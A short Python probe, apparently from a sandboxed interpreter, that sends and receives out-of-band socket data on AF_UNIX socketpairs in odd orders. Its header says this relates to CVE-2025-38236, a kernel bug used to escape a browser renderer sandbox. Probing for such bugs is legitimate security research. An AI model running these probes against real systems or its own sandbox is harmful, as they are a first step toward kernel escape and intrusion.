# Tries: a byte of urgent data on the socket to the host, and on a pair of its own, sent and taken in odd orders.
# Origin: CVE-2025-38236, by which a renderer process got from its sandbox into the kernel.

import socket

found = []
for file in range(16):
    found.append(native.call("sendto", file, b"x", 1, 1, 0, 0))
for kind in (1, 2, 5):
    a, b = socket.socketpair(socket.AF_UNIX, kind)
    b.setblocking(False)
    for send, take in ((1, 1), (1, 0), (1, 3), (0x41, 0x41)):
        found.append(native.call("sendto", a.fileno(), b"xy", 2, send, 0, 0))
        found.append(native.call("recvfrom", b.fileno(), native.buffer(8), 8, take, 0, 0))
found
